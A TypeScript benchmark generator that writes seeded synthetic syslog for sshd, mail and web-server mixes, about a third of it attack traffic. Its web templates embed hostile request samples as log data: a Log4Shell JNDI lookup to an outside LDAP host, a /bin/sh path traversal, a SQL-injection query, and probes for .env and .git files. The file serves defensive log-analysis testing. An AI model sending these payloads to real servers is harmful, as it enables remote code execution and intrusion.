// Deterministic synthetic syslog for the benchmarks: sshd (auth), Postfix + Dovecot (mail) and
// web server (web) mixes with noise, about a third attack lines (web-site: a public site's log, about 3 %), the same bytes for the same
// arguments on every machine. Run as a program: `node dist/bench/genlog.js LINES [--kind K]`.
import { closeSync, mkdtempSync, openSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';

export type Kind = 'auth' | 'mail' | 'web' | 'web-site';
export interface GenOptions { kind?: Kind; ips?: number; seed?: number }

const USERS = ['root', 'admin', 'test', 'oracle', 'ubuntu', 'git', 'postgres', 'user', 'pi', 'guest'];
const HOST = 'vmd28527';

/** Weighted line templates: {pid} {ip} {port} {user} {path} are filled per line. */
const MIXES: Record<Exclude<Kind, 'web-site'>, [number, string][]> = {
  auth: [
    [8, 'sshd[{pid}]: Failed password for root from {ip} port {port} ssh2'],
    [6, 'sshd[{pid}]: Failed password for invalid user {user} from {ip} port {port} ssh2'],
    [6, 'sshd[{pid}]: Invalid user {user} from {ip} port {port}'],
    [5, 'sshd[{pid}]: Connection closed by authenticating user root {ip} port {port} [preauth]'],
    [4, 'sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user=root'],
    [3, 'sshd[{pid}]: Unable to negotiate with {ip} port {port}: no matching host key type found. Their offer: ssh-dss [preauth]'],
    [10, 'sshd[{pid}]: Received disconnect from {ip} port {port}:11: Bye Bye [preauth]'],
    [10, 'sshd[{pid}]: Disconnected from invalid user {user} {ip} port {port} [preauth]'],
    [4, 'sshd[{pid}]: Accepted publickey for deploy from {ip} port {port} ssh2: ED25519 SHA256:abcdefghijklmnop'],
    [4, 'sshd[{pid}]: pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)'],
    [12, 'systemd[1]: Started session-{pid}.scope - Session {pid} of User deploy.'],
    [12, 'CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)'],
    [8, 'polkitd[535]: Loading rules from directory /etc/polkit-1/rules.d'],
    [8, 'systemd-logind[612]: New session {pid} of user deploy.'],
  ],
  mail: [
    [10, 'postfix/smtpd[{pid}]: connect from unknown[{ip}]'],
    [6, 'postfix/smtpd[{pid}]: warning: hostname {user}.example.net does not resolve to address {ip}: Name or service not known'],
    [8, 'postfix/smtpd[{pid}]: NOQUEUE: reject: RCPT from unknown[{ip}]: 554 5.7.1 <spam@example.com>: Relay access denied; from=<x@y.z> to=<spam@example.com> proto=ESMTP helo=<{user}>'],
    [8, 'postfix/smtpd[{pid}]: warning: unknown[{ip}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6'],
    [5, 'postfix/smtpd[{pid}]: lost connection after AUTH from unknown[{ip}]'],
    [4, 'postfix/smtpd[{pid}]: SSL_accept error from unknown[{ip}]: -1'],
    [4, 'dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<{user}>, method=PLAIN, rip={ip}, lip=10.0.0.1, TLS, session=<abc>'],
    [12, 'postfix/smtpd[{pid}]: disconnect from mail.example.org[{ip}] ehlo=1 mail=1 rcpt=1 data=1 quit=1 commands=5'],
    [12, 'postfix/qmgr[{pid}]: 4F1A22C3B: from=<news@example.org>, size=2345, nrcpt=1 (queue active)'],
    [12, 'postfix/smtp[{pid}]: 4F1A22C3B: to=<u@example.com>, relay=mx.example.com[203.0.113.5]:25, delay=0.4, dsn=2.0.0, status=sent (250 OK)'],
    [8, 'postfix/cleanup[{pid}]: 4F1A22C3B: message-id=<abc@example.org>'],
  ],
  web: [
    [30, 'nginx: {ip} - - "GET /{path} HTTP/2.0" 200 9120 "https://www.example.org/" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: www.example.org:443]@generic'],
    [12, 'httpd: {ip} - - "GET /{path} HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: blog.example.org:443]@wordpress'],
    [8, 'nginx: {ip} - - "GET /{path} HTTP/1.1" 304 0 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: static.example.org:80]@static'],
    [6, 'httpd: {ip} - - "GET /wp-content/themes/twenty/style.css HTTP/1.1" 200 2210 "https://blog.example.org/" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: blog.example.org:443]@wordpress'],
    [4, 'nginx: {ip} - - "GET /favicon.ico HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: static.example.org:80]@static'],
    [2, 'nginx: {ip} - - "GET /private/ HTTP/1.1" 401 179 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: cloud.example.org:443]@nextcloud'],
    [4, 'httpd: {ip} - - "POST /wp-login.php HTTP/1.1" 200 4210 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: blog.example.org:443]@wordpress'],
    [2, 'httpd: {ip} - - "POST /xmlrpc.php HTTP/1.1" 200 370 "-" "Mozilla/5.0" "-" [Instance: blog.example.org:443]@wordpress'],
    [5, 'nginx: {ip} - - "GET /.env HTTP/1.1" 404 153 "-" "python-requests/2.31.0" "-" [Instance: www.example.org:443]@generic'],
    [2, 'nginx: {ip} - - "GET /.git/config HTTP/1.1" 404 153 "-" "Go-http-client/1.1" "-" [Instance: www.example.org:443]@generic'],
    [3, 'httpd: {ip} - - "GET /phpmyadmin/index.php HTTP/1.1" 404 196 "-" "Mozilla/5.0 zgrab/0.x" "-" [Instance: static.example.org:80]@static'],
    [3, 'nginx: {ip} - - "GET /wp-login.php HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: static.example.org:80]@static'],
    [2, 'httpd: {ip} - - "GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 400 226 "-" "-" "-" [Instance: www.example.org:443]@generic'],
    [2, 'nginx: {ip} - - "GET /item.php?id=1%27%20OR%201=1-- HTTP/1.1" 403 153 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)" "-" [Instance: www.example.org:443]@generic'],
    [1, 'nginx: {ip} - - "GET / HTTP/1.1" 200 612 "-" "${jndi:ldap://198.51.100.9:1389/a}" "-" [Instance: www.example.org:443]@generic'],
    [1, 'httpd: {ip} - - "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)" "-" [Instance: static.example.org:80]@static'],
    [1, 'nginx: {ip} - - "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03" 400 157 "-" "-" "-" [Instance: www.example.org:443]@generic'],
    [2, 'httpd: {ip} - {user} "GET /admin/ HTTP/1.1" 401 381 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" "-" [Instance: www.example.org:443]@generic'],
    [2, 'nginx: 2026/11/01 10:00:00 [error] {pid}#{pid}: *{port} open() "/var/www/html/{path}" failed (2: No such file or directory), client: {ip}, server: www.example.org, request: "GET /{path} HTTP/1.1", host: "www.example.org"'],
    [1, 'nginx: 2026/11/01 10:00:00 [error] {pid}#{pid}: *{port} limiting requests, excess: 10.520 by zone "one", client: {ip}, server: cloud.example.org, request: "GET / HTTP/1.1", host: "cloud.example.org"'],
    [1, 'httpd: [authz_core:error] [pid {pid}] [client {ip}:{port}] AH01630: client denied by server configuration: /var/www/admin [Instance: www.example.org:443]@generic'],
    [1, 'httpd: [auth_basic:error] [pid {pid}] [client {ip}:{port}] AH01617: user {user}: authentication failure for "/admin/": Password Mismatch [Instance: www.example.org:443]@generic'],
  ],
};
/** The web mix as a public site's log reads: its traffic (the first six templates) fifteen times as often, about 3 % attack lines. */
function webSite(): [number, string][] {
  return MIXES.web.map(([w, f], i) => [i < 6 ? w * 15 : w, f]);
}
const PATHS = ['index.html', 'css/site.css', 'img/logo.png', 'about/', 'blog/2026/11/hello', 'favicon.ico'];

/** mulberry32: a small seeded generator, the same sequence everywhere. */
function seeded(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** The lines of a mix, one at a time (RFC 3164 headers as rsyslog's file template writes them). */
export function* generateLines(lines: number, o: GenOptions = {}): Generator<string> {
  const rnd = seeded(o.seed ?? 51);
  const int = (lo: number, hi: number) => lo + Math.floor(rnd() * (hi - lo + 1));
  const pick = <T>(a: readonly T[]): T => a[Math.floor(rnd() * a.length)];
  const nIps = o.ips ?? 20_000;
  const ips = Array.from({ length: nIps }, () => `${int(1, 223)}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`);
  const mix = o.kind === 'web-site' ? webSite() : MIXES[o.kind ?? 'auth'];
  const total = mix.reduce((s, [w]) => s + w, 0);
  for (let i = 0; i < lines; i++) {
    const s = Math.floor(i / 50);
    const ts = `Nov ${String(1 + (Math.floor(s / 86400) % 28)).padStart(2)} ${[Math.floor(s / 3600) % 24, Math.floor(s / 60) % 60, s % 60].map((n) => String(n).padStart(2, '0')).join(':')}`;
    let w = rnd() * total;
    let f = mix[0][1];
    for (const [weight, fmt] of mix) { if ((w -= weight) < 0) { f = fmt; break; } }
    // Half the lines from a Pareto-distributed few (the persistent attackers), half from anyone.
    const ip = rnd() < 0.5 ? ips[Math.min(Math.floor(1 / Math.pow(1 - rnd(), 1 / 1.2)) - 1, nIps - 1)] : pick(ips);
    const pid = String(int(1000, 99999));
    const port = String(int(1024, 65535));
    const user = pick(USERS);
    const path = pick(PATHS);
    yield `${ts} ${HOST} ${f.replace(/\{(\w+)\}/g, (_, k: string) => ({ pid, ip, port, user, path })[k] ?? '')}\n`;
  }
}

/** Write `lines` lines of a mix to a new temp file; returns its path. */
export function writeLines(lines: number, o: GenOptions = {}): string {
  const file = join(mkdtempSync(join(tmpdir(), 'bench-')), `${o.kind ?? 'auth'}-${lines}.log`);
  const fd = openSync(file, 'w');
  try {
    let buf: string[] = [];
    for (const l of generateLines(lines, o)) {
      buf.push(l);
      if (buf.length >= 10_000) { writeSync(fd, buf.join('')); buf = []; }
    }
    writeSync(fd, buf.join(''));
  } finally { closeSync(fd); }
  return file;
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const [n, ...rest] = process.argv.slice(2);
  const opt = (k: string) => { const i = rest.indexOf(`--${k}`); return i >= 0 ? rest[i + 1] : undefined; };
  if (!/^\d+$/.test(n ?? '') || !['auth', 'mail', 'web', 'web-site', undefined].includes(opt('kind'))) {
    process.stderr.write('usage: node dist/bench/genlog.js LINES [--kind auth|mail|web|web-site] [--ips N] [--seed S]\n');
    process.exitCode = 64;
  } else {
    for (const l of generateLines(Number(n), { kind: opt('kind') as Kind | undefined, ips: Number(opt('ips') ?? 20_000), seed: Number(opt('seed') ?? 51) })) process.stdout.write(l);
  }
}
